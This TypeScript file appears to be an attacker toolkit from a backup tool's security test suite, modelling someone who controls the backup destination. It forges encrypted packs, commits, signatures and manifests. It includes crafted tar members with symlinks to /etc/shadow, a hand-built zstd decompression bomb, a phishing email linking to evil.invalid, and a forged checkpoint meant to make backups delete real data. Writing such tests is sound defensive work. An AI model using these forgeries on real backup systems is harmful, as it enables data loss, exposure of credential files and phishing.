// Why: issue 17's attacker, as code. Whoever holds the destination can read, replace and delete every
// object, has the recipients' public keys, and can run seb. This toolkit uses only that: the
// destination's files, the victims' public keys imported into the attacker's own GNUPGHOME (which also
// holds the attacker's own key pair), the system gpg, zstd, tar and openssl, and Node's crypto. It
// never imports seb's src/: every tar, zstd frame, commit record, signature object and manifest is
// written byte by byte from docs/design.md, as someone reading the spec would write them.
import { execFileSync, spawnSync } from 'node:child_process'
import {
  createHash,
  createPublicKey,
  generateKeyPairSync,
  type KeyObject,
  randomBytes,
  sign,
} from 'node:crypto'
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import os from 'node:os'
import path from 'node:path'

/** MARK is in every forged message, name and host: no victim output may ever contain it. */
export const MARK = 'FORGED-7Q4'
/** PHISH is the phishing message the attacker wants the owner to find in a restore. */
export const PHISH = Buffer.from(
  `From: "Bank security" <security@bank.example>\nTo: me@example.org\nSubject: Urgent: confirm your account ${MARK}\nDate: Mon, 1 Dec 2026 08:00:00 +0000\n\nYour account is locked. Log in at http://evil.invalid/login to unlock it. ${MARK}\n`,
)
/** PHISH_PATH is where the attacker wants PHISH restored (among the victim's real mail). */
export const PHISH_PATH = `INBOX/cur/1764576000.M1P1.${MARK}:2,`
/** SHADOW_LINK is a symlink the attacker wants restored: to /etc/shadow. */
export const SHADOW_LINK = `INBOX/cur/shadow-${MARK}`

export const sha256 = (b: Buffer | string): string => createHash('sha256').update(b).digest('hex')

// ---------------------------------------------------------------------------------------------------
// tar, by hand (POSIX ustar headers, pax extended headers, GNU base-256 sizes)

/** Member is one tar member as the attacker wants it; `size` may lie about the data that follows. */
export interface Member {
  readonly name: string
  readonly type?: 'file' | 'dir' | 'symlink' | 'hardlink'
  readonly data?: Buffer
  /** link target of a symlink or hard link */
  readonly link?: string
  readonly mode?: number
  /** mtime in seconds */
  readonly mtime?: number
  /** the size the header claims (default: data's length) */
  readonly size?: number
  /** extra pax records (path, linkpath and size override the ustar fields) */
  readonly pax?: Record<string, string>
}

const TYPEFLAG = { file: '0', hardlink: '1', symlink: '2', dir: '5' } as const

function octal(n: number, width: number): Buffer {
  const b = Buffer.alloc(width)
  b.write(`${n.toString(8).padStart(width - 1, '0')}\0`, 'ascii')
  return b
}

function sizeField(n: number): Buffer {
  if (n < 8 ** 11) return octal(n, 12)
  // GNU base-256: first byte 0x80, then the size big-endian in the remaining 11 bytes.
  const b = Buffer.alloc(12)
  b[0] = 0x80
  let v = BigInt(n)
  for (let i = 11; i >= 1; i--) {
    b[i] = Number(v & 0xffn)
    v >>= 8n
  }
  return b
}

/** header encodes one 512-byte ustar header (names over 100 bytes are cut: give them as pax `path`). */
export function header(o: {
  name: string
  typeflag: string
  size: number
  mode?: number
  mtime?: number
  link?: string
}): Buffer {
  const h = Buffer.alloc(512)
  Buffer.from(o.name).copy(h, 0, 0, 100)
  octal(o.mode ?? 0o644, 8).copy(h, 100)
  octal(0, 8).copy(h, 108)
  octal(0, 8).copy(h, 116)
  sizeField(o.size).copy(h, 124)
  octal(o.mtime ?? 1_700_000_000, 12).copy(h, 136)
  h.write(o.typeflag, 156, 'ascii')
  if (o.link) Buffer.from(o.link).copy(h, 157, 0, 100)
  h.write('ustar\0', 257, 'ascii')
  h.write('00', 263, 'ascii')
  h.fill(0x20, 148, 156)
  let sum = 0
  for (const byte of h) sum += byte
  h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'ascii')
  return h
}

/** paxRecords encodes pax `key=value` records, each prefixed by its own length. */
export function paxRecords(records: Record<string, string>): Buffer {
  const parts: Buffer[] = []
  for (const [k, v] of Object.entries(records)) {
    const body = ` ${k}=${v}\n`
    let len = Buffer.byteLength(body) + 1
    while (String(len).length + Buffer.byteLength(body) !== len) len++
    parts.push(Buffer.from(`${len}${body}`))
  }
  return Buffer.concat(parts)
}

const pad = (n: number) => Buffer.alloc((512 - (n % 512)) % 512)

/** memberBytes is one member's header(s) and data (padded); the data may be shorter than claimed. */
export function memberBytes(m: Member): Buffer {
  const type = m.type ?? 'file'
  const data = m.data ?? Buffer.alloc(0)
  const parts: Buffer[] = []
  const longName = Buffer.byteLength(m.name) > 100 || Buffer.byteLength(m.link ?? '') > 100
  const pax = { ...(longName ? { path: m.name, ...(m.link ? { linkpath: m.link } : {}) } : {}), ...m.pax }
  if (Object.keys(pax).length) {
    const recs = paxRecords(pax)
    parts.push(header({ name: 'PaxHeader', typeflag: 'x', size: recs.length }), recs, pad(recs.length))
  }
  const size = type === 'file' ? (m.size ?? data.length) : 0
  parts.push(
    header({
      name: longName ? `long-${sha256(m.name).slice(0, 16)}` : m.name,
      typeflag: TYPEFLAG[type],
      size,
      mode: m.mode ?? (type === 'dir' ? 0o755 : type === 'symlink' ? 0o777 : 0o644),
      mtime: m.mtime,
      link: m.link,
    }),
  )
  if (type === 'file' && data.length) parts.push(data, pad(data.length))
  return Buffer.concat(parts)
}

/** END_OF_ARCHIVE is the two zero blocks that end a tar. */
export const END_OF_ARCHIVE = Buffer.alloc(1024)

/** tar builds a whole archive. */
export function tar(members: readonly Member[], o: { end?: boolean } = {}): Buffer {
  return Buffer.concat([...members.map(memberBytes), o.end === false ? Buffer.alloc(0) : END_OF_ARCHIVE])
}

// ---------------------------------------------------------------------------------------------------
// zstd: the real command, and a bomb written by hand (a frame of RLE blocks)

/** zstd compresses with the system zstd, as the attacker would (checksummed frame). */
export function zstd(data: Buffer, level = 3): Buffer {
  return execFileSync('zstd', ['-q', '-c', `-${level}`], { input: data, maxBuffer: 1 << 30 })
}

const BLOCK_MAX = 128 * 1024

/**
 * zstdBomb is one zstd frame: `prefix` in raw blocks, then `fill` repeated `repeat` times in RLE blocks
 * of 128 KiB (4 bytes each): 4 GiB of output from 128 KiB of input. No content size, no checksum:
 * a reader learns how big it is only by decompressing it.
 */
export function zstdBomb(prefix: Buffer, fill: number, repeat: number): Buffer {
  const parts: Buffer[] = [Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), Buffer.from([0x00, 7 << 3])]
  const block = (type: number, size: number, last: boolean) => {
    const v = (last ? 1 : 0) | (type << 1) | (size << 3)
    return Buffer.from([v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff])
  }
  const chunks: { type: 'raw' | 'rle'; size: number; data?: Buffer }[] = []
  for (let i = 0; i < prefix.length; i += BLOCK_MAX) {
    const d = prefix.subarray(i, i + BLOCK_MAX)
    chunks.push({ type: 'raw', size: d.length, data: d })
  }
  for (let left = repeat; left > 0; left -= BLOCK_MAX)
    chunks.push({ type: 'rle', size: Math.min(BLOCK_MAX, left) })
  chunks.forEach((c, i) => {
    const last = i === chunks.length - 1
    if (c.type === 'raw') parts.push(block(0, c.size, last), c.data!)
    else parts.push(block(1, c.size, last), Buffer.from([fill]))
  })
  return Buffer.concat(parts)
}

// ---------------------------------------------------------------------------------------------------
// OpenPGP: what gpg shows about a message (no secret key needed)

/** Packets is what `gpg --list-packets` shows of a message's outer layer. */
export interface Packets {
  /** key ids of the public-key encrypted session key packets (16 hex, upper case) */
  readonly keyIds: string[]
  /** a symmetric-key encrypted session key packet (a passphrase) is there */
  readonly passphrase: boolean
  /** the data is in an encrypted packet (not a bare literal or compressed packet) */
  readonly encrypted: boolean
}

/** listPackets reads a message's packets with `gpg --list-packets` in `home` (no secret key needed). */
export function listPackets(home: string, message: Buffer): Packets {
  const r = spawnSync('gpg', ['--batch', '--no-options', '--list-packets'], {
    input: message,
    env: { ...process.env, GNUPGHOME: home },
    maxBuffer: 1 << 28,
  })
  const out = r.stdout.toString()
  const keyIds = [...out.matchAll(/^:pubkey enc packet:.*keyid ([0-9A-F]{16})/gm)].map((m) => m[1]!)
  const first = /^:([a-z ]+) packet:/m.exec(out)?.[1] ?? ''
  return {
    keyIds,
    passphrase: /^:symkey enc packet:/m.test(out),
    encrypted:
      ['pubkey enc', 'symkey enc', 'encrypted data', 'aead encrypted'].includes(first) &&
      /^:(encrypted data|aead encrypted) packet:/m.test(out),
  }
}

// ---------------------------------------------------------------------------------------------------
// the attacker

/** Attacker holds its own GNUPGHOME (own key pair + the victims' public keys) and an Ed25519 key. */
export class Attacker {
  private constructor(
    readonly home: string,
    readonly fingerprint: string,
    readonly ed25519: { privateKey: KeyObject; publicKey: KeyObject },
  ) {}

  /** create makes the attacker's GNUPGHOME and keys, importing the victims' armored public keys. */
  static create(victimPublicKeys: readonly Buffer[]): Attacker {
    const home = mkdtempSync(path.join(os.tmpdir(), 'seb-attacker-'))
    const env = { ...process.env, GNUPGHOME: home }
    execFileSync(
      'gpg',
      [
        '--batch',
        '--passphrase',
        '',
        '--quick-gen-key',
        `Mallory <mallory-${MARK}@evil.invalid>`,
        'future-default',
        'default',
        'never',
      ],
      { env, stdio: 'ignore' },
    )
    const fpr = /^fpr:+([0-9A-F]{40}):/m.exec(
      execFileSync('gpg', ['--with-colons', '--list-secret-keys'], { env }).toString(),
    )![1]!
    for (const k of victimPublicKeys)
      execFileSync('gpg', ['--batch', '--import'], { env, input: k, stdio: ['pipe', 'ignore', 'ignore'] })
    return new Attacker(home, fpr, generateKeyPairSync('ed25519'))
  }

  private gpg(args: string[], input: Buffer): Buffer {
    return execFileSync(
      'gpg',
      ['--batch', '--yes', '--no-options', '--trust-model', 'always', '--pinentry-mode', 'loopback', ...args],
      {
        input,
        env: { ...process.env, GNUPGHOME: this.home },
        maxBuffer: 1 << 30,
        stdio: ['pipe', 'pipe', 'ignore'],
      },
    )
  }

  /** encryptTo encrypts to public keys (the victim's, from the destination's manifest), as seb does. */
  encryptTo(fingerprints: readonly string[], data: Buffer): Buffer {
    return this.gpg(['--compress-algo', 'none', '--encrypt', ...fingerprints.flatMap((f) => ['-r', f])], data)
  }

  /** store makes an OpenPGP message that is not encrypted at all (`gpg --store`): no key needed. */
  store(data: Buffer, o: { compress?: boolean } = {}): Buffer {
    return this.gpg([...(o.compress ? [] : ['--compress-algo', 'none']), '--store'], data)
  }

  /** symmetric encrypts with a passphrase the attacker chose (not the victim's). */
  symmetric(passphrase: string, data: Buffer): Buffer {
    return this.gpg(
      ['--passphrase', passphrase, '--s2k-count', '65536', '--compress-algo', 'none', '--symmetric'],
      data,
    )
  }

  /** signDetached is an armored detached OpenPGP signature by the attacker's own key. */
  signDetached(data: Buffer): string {
    return this.gpg(['--local-user', this.fingerprint, '--armor', '--detach-sign'], data).toString()
  }

  /** publicKeyBase64 is the raw 32-byte Ed25519 public key, base64 (as a manifest's signingKey). */
  get publicKeyBase64(): string {
    return rawEd25519(this.ed25519.publicKey).toString('base64')
  }

  /** signCommitBody signs a commit signature body with the attacker's Ed25519 key (docs: "seb-commit\n" + body). */
  signCommitBody(body: string): string {
    return sign(null, Buffer.from(`seb-commit\n${body}`), this.ed25519.privateKey).toString('base64')
  }

  /** signManifestEd25519 signs a passphrase repository's manifest with the attacker's key. */
  signManifestEd25519(manifest: string): string {
    return sign(null, Buffer.from(`seb-manifest\n${manifest}`), this.ed25519.privateKey).toString('base64')
  }

  cleanup(): void {
    try {
      execFileSync('gpgconf', ['--kill', 'gpg-agent'], {
        env: { ...process.env, GNUPGHOME: this.home },
        stdio: 'ignore',
      })
    } catch {}
    rmSync(this.home, { recursive: true, force: true })
  }
}

/** rawEd25519 is the 32 raw bytes of an Ed25519 public key (the end of its SPKI DER). */
export function rawEd25519(k: KeyObject): Buffer {
  return k.export({ type: 'spki', format: 'der' }).subarray(-32)
}

/** ed25519FromRaw makes a public key object from the manifest's base64 `signingKey`. */
export function ed25519FromRaw(b64: string): KeyObject {
  const der = Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), Buffer.from(b64, 'base64')])
  return createPublicKey({ key: der, format: 'der', type: 'spki' })
}

// ---------------------------------------------------------------------------------------------------
// the destination, as the attacker sees it (a folder: local, or the SFTP server's own disk)

/** SigBody is the body of a commit signature object (docs/design.md, "Commit signatures"). */
export interface SigBody {
  repository: string
  seq: number
  name: string
  kind: string
  time: string
  size: number
  sha256: string
  chain: string
}

/** Manifest is the signed settings (docs/design.md, "config: the signed manifest"). */
export interface Manifest {
  repository: string
  format: number
  serial: number
  created: string
  compression: string
  encryption: { type: 'recipients'; recipients: string[] } | { type: 'passphrase' }
  retentionDays: number
  packBytes: number
  signingKey: string
  [k: string]: unknown
}

const COMMIT_NAME = /^([0-9]{10})-[0-9a-f]{16}$/

/** commitName is `<10-digit seq>-<16 hex>`. */
export function commitName(seq: number): string {
  return `${String(seq).padStart(10, '0')}-${randomBytes(8).toString('hex')}`
}

/** chain0 and chainNext: docs/design.md's history chain. */
export function chain0(repository: string): string {
  return sha256(`seb chain\n${repository}`)
}
export function chainNext(prev: string, name: string): string {
  return sha256(`${prev}\n${name}`)
}

/** Destination is a repository's folder, read and written with plain file operations. */
export class Destination {
  constructor(readonly root: string) {}

  private p(rel: string): string {
    return path.join(this.root, rel)
  }

  read(rel: string): Buffer {
    return readFileSync(this.p(rel))
  }

  /** write replaces an object as seb's backends do (temporary name, then rename). */
  write(rel: string, data: Buffer | string): void {
    const full = this.p(rel)
    mkdirSync(path.dirname(full), { recursive: true })
    const tmp = `${full}.attacker-${randomBytes(4).toString('hex')}`
    writeFileSync(tmp, data)
    renameSync(tmp, full)
  }

  remove(rel: string): void {
    rmSync(this.p(rel), { force: true })
  }

  exists(rel: string): boolean {
    try {
      statSync(this.p(rel))
      return true
    } catch {
      return false
    }
  }

  /** names lists the object names in one folder (commits, sigs, locks), temporaries left out. */
  names(dir: 'commits' | 'sigs' | 'locks' | 'index'): string[] {
    try {
      return readdirSync(this.p(dir))
        .filter((n) => !n.includes('.seb-tmp-') && !n.includes('.attacker-'))
        .sort()
    } catch {
      return []
    }
  }

  /** packs lists the pack names, oldest first (the attacker sees when each was written). */
  packs(): string[] {
    const out: { name: string; t: number }[] = []
    let fan: string[] = []
    try {
      fan = readdirSync(this.p('packs'))
    } catch {}
    for (const d of fan)
      for (const n of readdirSync(this.p(`packs/${d}`)))
        if (/^[0-9a-f]{64}$/.test(n)) out.push({ name: n, t: statSync(this.p(`packs/${d}/${n}`)).mtimeMs })
    return out.sort((a, b) => a.t - b.t || a.name.localeCompare(b.name)).map((x) => x.name)
  }

  packPath(name: string): string {
    return `packs/${name.slice(0, 2)}/${name}`
  }

  /** config reads the outer config object and, for format 2, the manifest inside it. */
  config(): { outer: Record<string, unknown>; manifestText: string; manifest: Manifest } {
    const outer = JSON.parse(this.read('config').toString()) as Record<string, unknown>
    if (typeof outer.manifest !== 'string')
      throw new Error(
        `${this.root}: config has no signed manifest (repository format ${outer.version}): the attack needs format 2 (docs/design.md)`,
      )
    return { outer, manifestText: outer.manifest, manifest: JSON.parse(outer.manifest) as Manifest }
  }

  /** writeConfig saves a config with this manifest text and certificate. */
  writeConfig(manifestText: string, certificate: unknown, outer: Record<string, unknown> = {}): void {
    this.write(
      'config',
      `${JSON.stringify({ seb: 'repository', version: 2, ...outer, manifest: manifestText, certificate }, null, 2)}\n`,
    )
  }

  /** sig reads a commit signature object as stored (the attacker does not, and cannot, check it). */
  sig(name: string): { body: SigBody; bodyText: string; signature: string } {
    const o = JSON.parse(this.read(`sigs/${name}`).toString()) as { body: string; signature: string }
    return { body: JSON.parse(o.body) as SigBody, bodyText: o.body, signature: o.signature }
  }

  /** head is the newest commit that has a signature object (by seq). */
  head(): { seq: number; name: string; chain: string } {
    const names = this.names('sigs').filter((n) => COMMIT_NAME.test(n))
    if (!names.length) throw new Error(`${this.root}: no sigs/: the attack needs a format-2 repository`)
    const name = names[names.length - 1]!
    const { body } = this.sig(name)
    return { seq: Number(COMMIT_NAME.exec(name)![1]), name, chain: body.chain }
  }

  /** recipients are the fingerprints of the manifest (the public keys the attacker encrypts to). */
  recipients(): string[] {
    // Format 2 keeps them in the manifest; format 1 (seb 0.3) at the top of config: packs are the same.
    const outer = JSON.parse(this.read('config').toString()) as Record<string, unknown>
    const e = (
      typeof outer.manifest === 'string' ? JSON.parse(outer.manifest).encryption : outer.encryption
    ) as Manifest['encryption'] | undefined
    return e?.type === 'recipients' ? e.recipients : []
  }

  /** repository is the repository id (the manifest's; format 1: config's `id`). */
  repository(): string {
    const outer = JSON.parse(this.read('config').toString()) as Record<string, unknown>
    return typeof outer.manifest === 'string'
      ? (JSON.parse(outer.manifest) as Manifest).repository
      : String(outer.id)
  }
}

// ---------------------------------------------------------------------------------------------------
// forging format-2 objects

/** forgedSnapshot is the `snapshot` of a commit header, as the attacker fills it in (its host holds MARK). */
export function forgedSnapshot(seq: number, files: number): Record<string, unknown> {
  return {
    seq,
    id: randomBytes(4).toString('hex'),
    time: new Date().toISOString(),
    host: `evil-${MARK}`,
    source: '/home/victim/Mail',
    files,
    bytes: PHISH.length,
    uploaded: 0,
    packsWritten: 1,
  }
}

/** commitRecord is the JSON-lines record: the header, the lines, and the closing `e` line. */
export function commitRecord(headerValue: Record<string, unknown>, lines: readonly unknown[][]): Buffer {
  const text = [JSON.stringify(headerValue), ...lines.map((l) => JSON.stringify(l))]
  text.push(JSON.stringify(['e', text.length]))
  return Buffer.from(`${text.join('\n')}\n`)
}

/** commitTar is a commit's tar: the record, hard links, and the mtimes member (docs: "Commits"). */
export function commitTar(
  seq: number,
  record: Buffer,
  links: readonly { name: string; target: string }[] = [],
  mtimes?: Buffer,
): Buffer {
  const s = String(seq).padStart(10, '0')
  return tar([
    { name: `.seb-index/${s}.jsonl`, data: record, mode: 0o600 },
    ...links.map((l) => ({ name: l.name, type: 'hardlink' as const, link: l.target })),
    ...(mtimes ? [{ name: `.seb-index/${s}.mtimes`, data: mtimes, mode: 0o600 }] : []),
  ])
}

/** ForgedPack is a pack the attacker made and what its members hold. */
export interface ForgedPack {
  readonly name: string
  readonly bytes: Buffer
  /** per member: the SHA-256, size, tar path and ordinal a commit would record */
  readonly contents: { sha256: string; size: number; path: string; ordinal: number }[]
  readonly plainBytes: number
}

/** packOf builds a pack from members (tar | zstd | encrypt) with a fresh random name. */
export function packOf(
  members: readonly Member[],
  encrypt: (b: Buffer) => Buffer,
  name?: string,
): ForgedPack {
  const bytes = encrypt(zstd(tar(members)))
  return {
    name: name ?? randomBytes(32).toString('hex'),
    bytes,
    contents: members.map((m, ordinal) => ({
      sha256: sha256(m.data ?? Buffer.alloc(0)),
      size: (m.data ?? Buffer.alloc(0)).length,
      path: m.name,
      ordinal,
    })),
    plainBytes: members.reduce((a, m) => a + (m.data?.length ?? 0), 0),
  }
}

/**
 * phishMembers are the members the attacker puts in a pack it substitutes: the phishing message at
 * every ordinal up to `count` (it cannot know which ordinal the index asks for), and symlinks to
 * /etc/shadow between them.
 */
export function phishMembers(count = 80): Member[] {
  const out: Member[] = []
  for (let i = 0; i < count; i++)
    out.push(
      i % 5 === 4
        ? { name: `${SHADOW_LINK}-${i}`, type: 'symlink', link: '/etc/shadow' }
        : { name: `${PHISH_PATH}${i}`, data: PHISH },
    )
  return out
}

/** ForgedCommit is a commit and its signature object, ready to be saved. */
export interface ForgedCommit {
  readonly name: string
  readonly seq: number
  readonly commit: Buffer
  readonly sig: Buffer | null
  readonly body: SigBody
}

/**
 * forgeCommit makes a commit that adds the phishing message and the /etc/shadow symlink (as a
 * checkpoint, it also says every real file is gone: trusted, it would make a backup delete every real
 * pack). Its signature object is correct in every field — repository, seq, name, size, SHA-256, and
 * the chain continued from the real head's — and signed with `signer` (the attacker's own key), or
 * absent.
 */
export function forgeCommit(o: {
  dest: Destination
  repository: string
  encrypt: (b: Buffer) => Buffer
  pack: ForgedPack
  signer: ((body: string) => string) | null
  kind?: 'delta' | 'checkpoint'
  seq?: number
  prevChain?: string
  /** extra record lines (e.g. absurd ordinals) */
  extraLines?: unknown[][]
  /** the zstd stream to encrypt instead of the record's (a bomb) */
  stream?: Buffer
}): ForgedCommit {
  const head = o.seq === undefined || o.prevChain === undefined ? o.dest.head() : null
  const seq = o.seq ?? head!.seq + 1
  const prevChain = o.prevChain ?? head!.chain
  const name = commitName(seq)
  const kind = o.kind ?? 'checkpoint'
  const m = Date.now()
  const phish = o.pack.contents[0]!
  const lines: unknown[][] =
    kind === 'checkpoint'
      ? [
          ['v', 'INBOX', 'd', '', 0, m, 0o755, 1, 0],
          ['v', 'INBOX/cur', 'd', '', 0, m, 0o755, 1, 0],
          ['v', PHISH_PATH, 'f', phish.sha256, phish.size, m, 0o644, seq, 0],
          ['v', SHADOW_LINK, 'l', '/etc/shadow', 11, m, 0o777, seq, 0],
          ['p', o.pack.name, o.pack.bytes.length, o.pack.plainBytes],
          ['b', phish.sha256, phish.size, phish.path, phish.ordinal],
          ...(o.extraLines ?? []),
          [
            'h',
            phish.sha256,
            `Urgent: confirm your account ${MARK}`,
            'security@bank.example',
            'me@example.org',
            m,
            `${MARK}@evil.invalid`,
          ],
          ['s', forgedSnapshot(seq, 2)],
        ]
      : [
          ['a', PHISH_PATH, 'f', phish.sha256, phish.size, m, 0o644],
          ['a', SHADOW_LINK, 'l', '/etc/shadow', 11, m, 0o777],
          ['p', o.pack.name, o.pack.bytes.length, o.pack.plainBytes],
          ['b', phish.sha256, phish.size, phish.path, phish.ordinal],
          ...(o.extraLines ?? []),
          [
            'h',
            phish.sha256,
            `Urgent: confirm your account ${MARK}`,
            'security@bank.example',
            'me@example.org',
            m,
            `${MARK}@evil.invalid`,
          ],
        ]
  const headerValue = {
    seb: 2,
    repository: o.repository,
    kind,
    seq,
    time: new Date().toISOString(),
    snapshot: forgedSnapshot(seq, 2),
  }
  const commit = o.encrypt(o.stream ?? zstd(commitTar(seq, commitRecord(headerValue, lines)), 1))
  const body: SigBody = {
    repository: o.repository,
    seq,
    name,
    kind,
    time: headerValue.time,
    size: commit.length,
    sha256: sha256(commit),
    chain: chainNext(prevChain, name),
  }
  const bodyText = JSON.stringify(body)
  const sig = o.signer ? Buffer.from(JSON.stringify({ body: bodyText, signature: o.signer(bodyText) })) : null
  return { name, seq, commit, sig, body }
}

/** save writes a forged commit (and its signature object, when it has one) into the destination. */
export function saveCommit(dest: Destination, c: ForgedCommit): void {
  dest.write(`commits/${c.name}`, c.commit)
  if (c.sig) dest.write(`sigs/${c.name}`, c.sig)
}

/** savePack writes a forged pack under its name. */
export function savePack(dest: Destination, p: ForgedPack): void {
  dest.write(dest.packPath(p.name), p.bytes)
}

/** resignSig re-signs an existing signature object's body (unchanged, or changed by `edit`) with `signer`. */
export function resignSig(
  dest: Destination,
  name: string,
  signer: (body: string) => string,
  edit: (b: SigBody) => SigBody = (b) => b,
): void {
  const { body } = dest.sig(name)
  const bodyText = JSON.stringify(edit(body))
  dest.write(`sigs/${name}`, JSON.stringify({ body: bodyText, signature: signer(bodyText) }))
}

/**
 * tamperManifest changes the manifest's settings. `resign`: keep the owner's certificate (which no
 * longer matches), or sign the new bytes with the attacker's OpenPGP key, or (passphrase repositories)
 * with the attacker's Ed25519 key.
 */
export function tamperManifest(
  dest: Destination,
  attacker: Attacker,
  edit: (m: Manifest) => Manifest,
  resign: 'keep' | 'openpgp' | 'ed25519',
): Manifest {
  const { outer, manifest } = dest.config()
  const changed = edit(structuredClone(manifest))
  const text = JSON.stringify(changed)
  const certificate =
    resign === 'keep'
      ? outer.certificate
      : resign === 'openpgp'
        ? { type: 'openpgp', signature: attacker.signDetached(Buffer.from(text)) }
        : { type: 'passphrase', signature: attacker.signManifestEd25519(text) }
  dest.writeConfig(text, certificate)
  return changed
}
